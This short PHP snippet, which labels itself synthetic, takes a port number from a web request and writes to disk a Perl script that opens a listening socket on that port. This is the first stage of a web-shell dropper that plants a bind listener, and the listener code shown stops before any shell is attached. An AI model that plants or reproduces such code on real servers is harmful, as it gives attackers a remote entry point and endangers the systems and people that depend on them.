<?php
// synthetic: a Perl listener kept as plain text and written to disk
$port = (int) $_POST['p'];
$src = "#!/usr/bin/perl
use IO::Socket; my \$s = IO::Socket::INET->new(LocalPort => $port, Listen => 1);
";
file_put_contents('/tmp/l.pl', $src);
